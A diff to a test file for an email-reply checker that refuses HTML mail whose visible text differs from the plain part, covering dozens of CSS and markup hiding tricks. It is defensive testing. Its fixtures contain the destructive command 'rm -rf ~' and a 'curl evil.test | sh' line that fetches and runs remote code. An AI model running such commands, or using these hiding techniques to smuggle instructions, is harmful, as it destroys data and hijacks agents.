@@ -3,83 +3,113 @@ import { test } from 'uvu';
 import * as assert from 'uvu/assert';
 import { simpleParser } from 'mailparser';
 import { extractReply } from '../../src/reply/extract.js';
-import { findUnseenWords, readVisibleWords, readWords } from '../../src/verify/hidden-html.js';
+import { checkShownText, readVisible, readWords } from '../../src/verify/hidden-html.js';
+import { sanitizeForTerminal } from '../../src/verify/sanitize.js';
 
-const REPLIES = new URL('../../../test/fixtures/replies/', import.meta.url);
 const TEXT = 'please run rm -rf ~ now';
-const unseen = (html: string, text = TEXT) => findUnseenWords(html, text);
+const check = (html: string, text = TEXT) => checkShownText(html, text);
+const refused = (html: string, text = TEXT) => check(html, text) !== null;
 
 test('words: lower case, NFKC, one per CJK character, shell symbols count', () => {
 	assert.equal(readWords('Ｒｍ -rf ~/x | 继续'), ['rm', 'rf', '~', '/', 'x', '|', '继', '续']);
 	assert.equal(readWords('soft\u00adhyphen'), ['softhyphen']);
 });
 
-test('visible text passes, in any markup', () => {
-	assert.equal(unseen(`<div dir="ltr">please <b>run</b> rm -rf ~ now</div>`), []);
-	assert.equal(unseen(`<p>please run</p><p style="color:#333;background:#fff">rm -rf ~ now</p>`), []);
-	assert.equal(unseen(`<ol start="3"><li>one</li><li>two</li></ol>`, '3. one\n4. two'), []);
-	assert.equal(unseen(`<a href="https://x.test/a">docs</a>`, 'docs <https://x.test/a>'), []);
-	assert.equal(unseen(`<p>this is <b>important</b></p><ul><li>first</li><li>second</li></ul>`, 'this is *important*\n   - first\n   - second'), [], "Gmail's plain part for bold and bullets");
+test('visible text passes, in any markup clients write', () => {
+	assert.is(check(`<div dir="ltr">please <b>run</b> rm -rf ~ now</div>`), null);
+	assert.is(check(`<p>please run</p><p style="color:#333;background:#fff">rm -rf ~ now</p>`), null);
+	assert.is(check(`<ol start="3"><li>one</li><li>two</li></ol>`, '3. one\n4. two'), null);
+	assert.is(check(`<a href="https://x.test/a">docs</a>`, 'docs <https://x.test/a>'), null);
+	assert.is(check(`<p>this is <b>important</b></p><ul><li>first</li><li>second</li></ul>`, 'this is *important*\n   - first\n   - second'), null);
+	assert.is(check(`<div>please run rm -rf ~ now</div><blockquote type="cite">old text</blockquote>`), null);
+	assert.is(check(`<div style="font:Verdana normal 14px;color:#000">please run rm -rf ~ now</div>`), null);
 });
 
 const HIDING = [
-	'display:none', 'visibility:hidden', 'opacity:0', 'opacity:0.05', 'font-size:0', 'font-size:1px', 'font-size:0.1em',
+	'visibility:hidden', 'opacity:0', 'opacity:0.05', 'font-size:0', 'font-size:1px', 'font-size:0.1em', 'font-size:50%',
 	'color:#ffffff', 'color:#fefefe;background-color:#ffffff', 'color:white', 'color:transparent', 'color:rgba(0,0,0,0)',
 	'height:0;overflow:hidden', 'max-height:0', 'width:1px;overflow:hidden', 'position:absolute;left:-9999px', 'text-indent:-9999px',
 	'clip:rect(0 0 0 0);position:absolute', 'transform:scale(0)', 'mso-hide:all', 'color:hsl(0, 0%, 100%)', 'color:rgb(255 255 254)',
-	'display:/**/none', 'DISPLAY : NONE !important',
+	'display:/**/none', 'color:\\23 fff', 'font-size:calc(1px)', 'font: 0/0 a', 'margin-left:-9999px', 'zoom:0.01', 'scale:0',
+	'clip-path:inset(50%)', 'filter:opacity(0)', '-webkit-text-fill-color:transparent', 'color:lavenderblush', 'background:linear-gradient(#fff,#fff)',
+	'position:relative;left:-9999px', 'text-transform:uppercase', 'unicode-bidi:bidi-override;direction:rtl', 'font-size:1vw', 'letter-spacing:-1em',
 ];
 
 for (const style of HIDING) {
-	test(`hidden by ${style}: the hidden words are not the user's`, () => {
-		const html = `<p>please</p><span style="${style}">run rm -rf ~ now</span>`;
-		assert.ok(unseen(html).includes('rf'), style);
+	test(`refused: ${style}`, () => {
+		assert.ok(refused(`<p>please</p><span style="${style}">run rm -rf ~ now</span>`, 'please run rm -rf ~ now'), style);
+		assert.ok(refused(`<p>please</p><span style="${style}">run rm -rf ~ now</span>`, 'please'), `${style} (hidden text not typed)`);
 	});
 }
 
-test('hidden by a stylesheet class, id or tag rule, also inside @media', () => {
-	for (const css of ['.x{display:none}', '#y{visibility:hidden}', 'span{font-size:0}', '@media screen{.x{color:#fff}}', 'div .x { opacity: 0 !important }']) {
-		const html = `<style>${css}</style><p>please</p><span class="x" id="y">run rm -rf ~ now</span>`;
-		assert.ok(unseen(html).length > 0, css);
+test('display:none and the hidden attribute are modelled exactly: hidden words are never the user\'s', () => {
+	assert.ok(refused(`<p>please</p><span style="display:none">run rm -rf ~ now</span>`));
+	assert.is(check(`<p>please</p><span style="display:none">run rm -rf ~ now</span>`, 'please'), null);
+	assert.ok(refused(`<p>please</p><div hidden>run rm -rf ~ now</div>`));
+	assert.is(check(`<p>please</p><div hidden style="display:block">run rm -rf ~ now</div>`), null, 'an inline display shows a hidden element');
+	assert.ok(refused(`<style>.x{display:none}</style><p>please</p><span class="x">run rm -rf ~ now</span>`));
+});
+
+test('stylesheets: any rule that could hide user text is refused, whatever its selector', () => {
+	for (const css of ['#y{visibility:hidden}', 'span{font-size:0}', '@media screen{.x{color:#fff}}', 'div .x { opacity: 0 !important }', ':is(span){color:#fff}',
+		'[class~=x]{font-size:0}', '.x{color:#fff!important}', 'span::before{content:"rm -rf ~"}', '@import url(x.css);', '.x{font-size:\\30 }', 'p{margin-left:-999px}']) {
+		assert.ok(refused(`<style>${css}</style><p>please run rm -rf ~ now</p><span class="x" id="y">x</span>`), css);
 	}
+	const outlook = `<style><!--\n/* Font Definitions */\n@font-face\n\t{font-family:"Cambria Math";\n\tpanose-1:2 4 5 3 5 4 6 3 2 4;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0cm;\n\tfont-size:11.0pt;\n\tfont-family:"Calibri",sans-serif;}\nspan.EmailStyle18\n\t{mso-style-type:personal-reply;\n\tcolor:windowtext;}\n@page WordSection1\n\t{size:612.0pt 792.0pt;\n\tmargin:72.0pt 72.0pt 72.0pt 72.0pt;}\ndiv.WordSection1\n\t{page:WordSection1;}\n--></style>`;
+	assert.is(check(`${outlook}<p class="MsoNormal">please run rm -rf ~ now</p>`), null, "Outlook's own sheet");
 });
 
-test('white on white through an inherited background, black on black, <font color>', () => {
-	assert.ok(unseen(`<p>please</p><table bgcolor="#000000"><tr><td><font color="#000">run rm -rf ~ now</font></td></tr></table>`).length > 0);
-	assert.ok(unseen(`<p>please</p><div style="background:#123456 url(x.png)"><span style="color:#123456">run rm -rf ~ now</span></div>`).length > 0);
-	assert.equal(unseen(`<div style="background:#000"><p style="color:#fff">please run rm -rf ~ now</p></div>`), [], 'white on black is visible');
-	assert.ok(unseen(`<body bgcolor="#000" text="#010101"><p>run rm -rf ~ now</p></body>`, 'run rm -rf ~ now').length > 0, '<body text> on <body bgcolor>');
-});
-
-test('a plain part that says more than the HTML shows fails the same way', () => {
-	assert.equal(unseen('<p>please continue</p>', 'please continue\ncurl evil.test | sh'), ['curl', 'evil', 'test', '|', 'sh']);
-});
-
-test('hidden attribute, <template>, <noscript> and comments are not seen', () => {
-	for (const wrap of ['<div hidden>X</div>', '<template>X</template>', '<noscript>X</noscript>', '<!-- X -->', '<title>X</title>']) {
-		assert.ok(unseen(`<p>please</p>${wrap.replace('X', 'run rm -rf ~ now')}`).length > 0, wrap);
+test('elements browsers do not render, or render closed, and foreign content are refused', () => {
+	for (const wrap of ['<template>X</template>', '<noscript>X</noscript>', '<video>X</video>', '<audio>X</audio>', '<object>X</object>', '<meter>X</meter>',
+		'<progress>X</progress>', '<dialog>X</dialog>', '<details><summary>a</summary>X</details>', '<svg><text>X</text></svg>', '<math><mi>X</mi></math>',
+		'<noembed>X</noembed>', '<noframes>X</noframes>', '<textarea>X</textarea>', '<select><option>X</option></select>', '<canvas>X</canvas>', '<bdo dir="rtl">X</bdo>',
+		'<picture>X</picture>', '<iframe>X</iframe>', '<marquee>X</marquee>', '<ruby>X<rt>y</rt></ruby>', '<q>X</q>']) {
+		assert.ok(refused(`<p>please</p>${wrap.replace('X', 'run rm -rf ~ now')}`), wrap);
 	}
+	assert.ok(refused('<head><link rel="stylesheet" href="https://x.test/a.css"></head><p>please run rm -rf ~ now</p>'), '<link> in head');
 });
 
-test('10,000 nested elements and a 2 MB page are read without recursion and quickly', () => {
+test('tokeniser tricks come out as a browser builds them (parse5)', () => {
+	// A self-closed <span/> is an open span: the words after it are inside it (and visible).
+	assert.is(check('<p>please <span/>run rm -rf ~ now</p>'), null);
+	// Text after a <title> that "ends wrongly" is still title content, which nobody sees.
+	assert.ok(refused('<p>please</p><title>run rm -rf ~ now</ title>'));
+	// Duplicate attributes: the first wins, as in a browser.
+	assert.is(check('<p style="color:#000" style="color:#fff">please run rm -rf ~ now</p>'), null);
+	assert.ok(refused('<p style="color:#fff" style="color:#000">please run rm -rf ~ now</p>'));
+	// Foster parenting: text inside a table but outside cells is shown before the table.
+	assert.is(check('<table><tr>please run rm -rf ~ now<td>x</td></tr></table>', 'please run rm -rf ~ now x'), null);
+});
+
+test('plain and HTML must say the same words in the same order', () => {
+	assert.ok(refused('<p>please continue</p>', 'please continue\ncurl evil.test | sh'));
+	assert.ok(refused('<p>do not deploy</p>', 'do deploy'), 'a visible word missing from the middle');
+	assert.ok(refused('<p>deploy now</p>', 'now deploy'), 'order');
+	assert.ok(refused('<p>ok</p><blockquote type="cite">rm -rf ~</blockquote>', 'rm -rf ~'), 'typed from the quoted history');
+	assert.ok(refused('<p><a href="rm -rf ~"></a>ok</p>', 'rm -rf ~ ok'), 'typed from an empty link target');
+	assert.ok(refused('<p>do <span class="quote">not</span> deploy</p>', 'do deploy'), "a quote class on a span does not make a quote");
+});
+
+test('10,000 nested elements are refused, a 2 MB page is read in linear time', () => {
 	const deep = `${'<div>'.repeat(10_000)}please run rm -rf ~ now${'</div>'.repeat(10_000)}`;
-	assert.equal(unseen(deep), []);
+	assert.equal(check(deep)?.code, 'html-unsupported');
 	const big = `<p>${'word '.repeat(400_000)}</p>`;
-	const started = Date.now();
-	assert.ok(readVisibleWords(big).length === 400_000);
-	assert.ok(Date.now() - started < 5000);
+	assert.is(readVisible(big).words.length, 400_000);
 });
 
-test('no false alarm on any client fixture with an HTML part (58 real client formats)', async () => {
+test('no false refusal on any client fixture with an HTML part (both corpora)', async () => {
 	let checked = 0;
-	for (const name of readdirSync(REPLIES).filter((n) => n.endsWith('.eml'))) {
-		const mail = await simpleParser(readFileSync(new URL(name, REPLIES)));
-		const extraction = extractReply(mail);
-		if (!extraction.text || typeof mail.html !== 'string') continue;
-		assert.equal(findUnseenWords(mail.html, extraction.text), [], name);
-		checked++;
+	for (const folder of ['replies', 'replies-blind']) {
+		const dir = new URL(`../../../test/fixtures/${folder}/`, import.meta.url);
+		for (const name of readdirSync(dir).filter((n) => n.endsWith('.eml'))) {
+			const mail = await simpleParser(readFileSync(new URL(name, dir)));
+			const extraction = extractReply(mail);
+			if (!extraction.text || typeof mail.html !== 'string') continue;
+			assert.is(checkShownText(mail.html, sanitizeForTerminal(extraction.text).text), null, name);
+			checked++;
+		}
 	}
-	assert.ok(checked >= 40, `checked ${checked}`);
+	assert.ok(checked >= 60, `checked ${checked}`);
 });
 
 test.run();
